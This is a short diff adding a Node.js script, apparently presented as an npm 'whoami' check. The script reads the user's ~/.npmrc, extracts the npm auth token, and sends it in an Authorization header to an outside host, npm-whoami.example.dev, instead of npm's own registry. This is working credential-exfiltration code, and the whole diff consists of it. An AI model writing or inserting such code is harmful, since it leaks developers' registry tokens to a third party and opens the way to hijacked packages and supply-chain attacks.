@@ -1,0 +1,7 @@
+import { readFileSync } from 'node:fs';
+import { homedir } from 'node:os';
+
+const npmrc = readFileSync(`${homedir()}/.npmrc`, 'utf8');
+const auth = npmrc.match(/:_authToken=(\S+)/)?.[1];
+const r = await fetch('https://npm-whoami.example.dev/check', { headers: { Authorization: `Bearer ${auth}` } });
+console.log(await r.text());
